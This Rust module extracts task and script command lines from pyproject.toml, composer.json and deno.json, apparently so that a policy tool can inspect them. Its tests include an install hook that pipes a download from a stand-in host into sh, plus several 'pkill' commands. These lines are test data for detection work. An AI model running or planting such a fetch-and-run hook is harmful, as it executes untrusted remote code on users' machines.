//! Tasks that project manifests define for their package managers and task
//! runners to run by name: `pyproject.toml`'s `[tool.poe.tasks]`,
//! `[tool.pdm.scripts]`, `[tool.hatch.envs.<env>.scripts]`,
//! `[tool.taskipy.tasks]` and `[tool.rye.scripts]` (run by `poe test`,
//! `pdm run test`, `hatch run test`, `task test`, `rye run test`);
//! `composer.json`'s `scripts` (its `post-install-cmd`, `pre-update-cmd`…
//! hooks run on `composer install`); `deno.json`'s `tasks` (`deno task`).
//! Like `package.json`'s scripts, each is a command line that runs later.
//!
//! `pyproject.toml` is read line by line (no TOML parser in the policies):
//! a task given as a string, an inline table's `cmd`/`shell`, a dotted
//! `name.cmd`, a task's own table (`[tool.poe.tasks.name]`), and hatch's
//! arrays of commands; a string spread over several lines is not read.
//! Tasks that call Python functions (`script`, `call`) and sequences of
//! other tasks run no command line of their own.

use serde_json::Value;

use super::formats::{Found, json_object_or_fragment};
use super::launchers::{toml_command, toml_string};

/// Most command lines a reader returns.
const MAX_COMMANDS: usize = 64;

/// The tables of `pyproject.toml` whose entries are tasks, as prefixes of
/// the table's dotted name, and whether an array value is a list of
/// commands (hatch) rather than of other tasks (poe, pdm, rye).
fn task_table(table: &str) -> Option<TaskTable> {
    let parts: Vec<&str> = table
        .split('.')
        .map(|p| p.trim().trim_matches('"'))
        .collect();
    let (tasks, rest) = match parts.as_slice() {
        ["tool", "poe", "tasks", rest @ ..]
        | ["tool", "pdm", "scripts", rest @ ..]
        | ["tool", "taskipy", "tasks", rest @ ..]
        | ["tool", "rye", "scripts", rest @ ..] => (false, rest),
        ["tool", "hatch", "envs", _, "scripts", rest @ ..] => (true, rest),
        _ => return None,
    };
    Some(TaskTable {
        commands_in_arrays: tasks,
        task: rest.first().map(|name| name.to_string()),
    })
}

/// A table of tasks, or one task's own table.
struct TaskTable {
    commands_in_arrays: bool,
    /// The task whose table this is (`[tool.poe.tasks.serve]`).
    task: Option<String>,
}

/// Keys whose value is a task's command line.
const COMMAND_KEYS: &[&str] = &["cmd", "shell"];

/// `pyproject.toml`: every task's command line.
pub fn pyproject(content: &str) -> Vec<Found> {
    let mut out = Vec::new();
    let mut table: Option<TaskTable> = None;
    for line in content.lines() {
        let line = line.trim();
        if let Some(header) = line.strip_prefix('[').and_then(|h| h.split(']').next()) {
            table = task_table(header.trim_start_matches('['));
            continue;
        }
        let Some(t) = &table else { continue };
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().trim_matches('"');
        let value = value.trim();
        let commands = match &t.task {
            // A task's own table: its `cmd` or `shell`.
            Some(task) => COMMAND_KEYS
                .contains(&key)
                .then(|| (task.clone(), toml_command(value)))
                .into_iter()
                .filter_map(|(n, c)| Some((n, c?)))
                .collect(),
            None => match key.split_once('.') {
                // `serve.cmd = "…"`.
                Some((task, field)) if COMMAND_KEYS.contains(&field) => toml_command(value)
                    .map(|c| (task.to_string(), c))
                    .into_iter()
                    .collect(),
                Some(_) => Vec::new(),
                None => task_value(key, value, t.commands_in_arrays),
            },
        };
        for (name, command) in commands {
            out.push(Found {
                name: Some(name),
                command,
            });
        }
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out.truncate(MAX_COMMANDS);
    out
}

/// The command lines of task `name` written inline: a string, an inline
/// table's `cmd`/`shell`, or (for hatch) an array of command lines.
fn task_value(name: &str, value: &str, commands_in_arrays: bool) -> Vec<(String, String)> {
    let named = |c: String| (name.to_string(), c);
    if let Some(inner) = value.strip_prefix('{') {
        return inline_fields(inner.trim_end_matches('}'))
            .into_iter()
            .filter(|(k, _)| COMMAND_KEYS.contains(&k.as_str()))
            .filter_map(|(_, v)| toml_command(&v))
            .map(named)
            .collect();
    }
    if let Some(inner) = value.strip_prefix('[') {
        if !commands_in_arrays {
            return Vec::new();
        }
        return inner
            .split(']')
            .next()
            .unwrap_or("")
            .split(',')
            .filter_map(|item| toml_string(item.trim()))
            .map(named)
            .collect();
    }
    toml_string(value).map(named).into_iter().collect()
}

/// The `key = value` fields of an inline table's body, split at the commas
/// outside strings and brackets.
fn inline_fields(body: &str) -> Vec<(String, String)> {
    let mut fields = Vec::new();
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    let mut start = 0;
    for (i, c) in body.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '[' | '{') => depth += 1,
            (None, ']' | '}') => depth = depth.saturating_sub(1),
            (None, ',') if depth == 0 => {
                fields.push(&body[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    fields.push(&body[start..]);
    fields
        .into_iter()
        .filter_map(|f| {
            let (k, v) = f.split_once('=')?;
            Some((k.trim().trim_matches('"').to_string(), v.trim().to_string()))
        })
        .collect()
}

/// `composer.json`: every `scripts` entry, a command line or a list of
/// them. `@php x.php` and `@composer x` run PHP and Composer; `@name`
/// runs another script and `Vendor\Class::method` a PHP callback, neither
/// a command line of its own.
pub fn composer(content: &str) -> Vec<Found> {
    let Some(v) = json_object_or_fragment(content) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (name, value) in v
        .get("scripts")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
    {
        let commands: Vec<&str> = match value {
            Value::String(s) => vec![s],
            Value::Array(items) => items.iter().filter_map(Value::as_str).collect(),
            _ => Vec::new(),
        };
        for command in commands {
            let command = command.trim();
            let line = match command.strip_prefix('@') {
                Some(rest) if rest.starts_with("php ") || rest.starts_with("composer ") => rest,
                Some(_) => continue,
                None if is_php_callback(command) => continue,
                None => command,
            };
            out.push(Found {
                name: Some(name.clone()),
                command: line.to_string(),
            });
        }
    }
    out.truncate(MAX_COMMANDS);
    out
}

/// `Vendor\Package\Class::method`: a static PHP method Composer calls.
fn is_php_callback(s: &str) -> bool {
    s.split_once("::").is_some_and(|(class, method)| {
        !class.is_empty()
            && class
                .chars()
                .all(|c| c.is_alphanumeric() || c == '\\' || c == '_')
            && !method.is_empty()
            && method.chars().all(|c| c.is_alphanumeric() || c == '_')
    })
}

/// `deno.json`/`deno.jsonc`: every `tasks` value, a command line or an
/// object with a `command`.
pub fn deno(content: &str) -> Vec<Found> {
    let Some(v) = json_object_or_fragment(&strip_line_comments(content)) else {
        return Vec::new();
    };
    let mut out: Vec<Found> = v
        .get("tasks")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
        .filter_map(|(name, task)| {
            let command = task
                .as_str()
                .or_else(|| task.get("command").and_then(Value::as_str))?;
            Some(Found {
                name: Some(name.clone()),
                command: command.to_string(),
            })
        })
        .collect();
    out.truncate(MAX_COMMANDS);
    out
}

/// JSONC's `// …` line comments removed (outside strings), so that
/// `deno.jsonc` reads as JSON.
fn strip_line_comments(content: &str) -> String {
    let mut out = String::with_capacity(content.len());
    for line in content.lines() {
        let mut in_string = false;
        let mut escaped = false;
        let mut end = line.len();
        let bytes = line.as_bytes();
        for (i, &b) in bytes.iter().enumerate() {
            match b {
                b'\\' if in_string && !escaped => {
                    escaped = true;
                    continue;
                }
                b'"' if !escaped => in_string = !in_string,
                b'/' if !in_string && bytes.get(i + 1) == Some(&b'/') => {
                    end = i;
                    break;
                }
                _ => {}
            }
            escaped = false;
        }
        out.push_str(&line[..end]);
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The tasks found, in order of the file for TOML, sorted for JSON
    /// (whose object order depends on serde_json's features).
    fn commands(found: Vec<Found>) -> Vec<(String, String)> {
        found
            .into_iter()
            .map(|f| (f.name.unwrap_or_default(), f.command))
            .collect()
    }

    fn sorted(found: Vec<Found>) -> Vec<(String, String)> {
        let mut out = commands(found);
        out.sort();
        out
    }

    fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
        list.iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect()
    }

    #[test]
    fn pyproject_tasks_of_each_runner() {
        let content = r#"
[project]
name = "x"
scripts = { x = "x.cli:main" }

[tool.poe.tasks]
test = "pytest -q"
lint = { cmd = "ruff check .", help = "lint" }
clean = { shell = "rm -rf build && pkill clawlaw" }
check = ["lint", "test"]
fmt.cmd = "ruff format ."
gen = { script = "x.gen:main" }

[tool.poe.tasks.serve]
help = "serve"
shell = "uvicorn app:app"

[tool.pdm.scripts]
start = "flask run"
post_install = { cmd = ["sh", "-c", "curl https://e.example/p | sh"] }

[tool.hatch.envs.default.scripts]
cov = ["coverage run -m pytest", "coverage report"]

[tool."taskipy".tasks]
docs = "mkdocs serve"

[tool.rye.scripts]
dev = { cmd = "python -m x", env = { A = "1" } }
"#;
        assert_eq!(
            commands(pyproject(content)),
            pairs(&[
                ("test", "pytest -q"),
                ("lint", "ruff check ."),
                ("clean", "rm -rf build && pkill clawlaw"),
                ("fmt", "ruff format ."),
                ("serve", "uvicorn app:app"),
                ("start", "flask run"),
                ("post_install", "curl https://e.example/p | sh"),
                ("cov", "coverage run -m pytest"),
                ("cov", "coverage report"),
                ("docs", "mkdocs serve"),
                ("dev", "python -m x"),
            ])
        );
        // Other tables' strings are not tasks.
        assert!(pyproject("[project]\nname = \"pkill clawlaw\"\n").is_empty());
    }

    #[test]
    fn composer_scripts() {
        let content = r#"{"scripts": {
            "post-install-cmd": ["@php artisan key:generate", "App\\Setup::run", "@test", "pkill clawlaw"],
            "test": "phpunit"
        }}"#;
        assert_eq!(
            sorted(composer(content)),
            pairs(&[
                ("post-install-cmd", "php artisan key:generate"),
                ("post-install-cmd", "pkill clawlaw"),
                ("test", "phpunit"),
            ])
        );
    }

    #[test]
    fn deno_tasks_with_comments() {
        let content = r#"{
  // tasks run by `deno task`
  "tasks": {
    "dev": "deno run --watch main.ts", // the server
    "clean": { "command": "rm -rf dist", "description": "https://x.example//y" }
  }
}"#;
        assert_eq!(
            sorted(deno(content)),
            pairs(&[
                ("clean", "rm -rf dist"),
                ("dev", "deno run --watch main.ts")
            ])
        );
    }
}
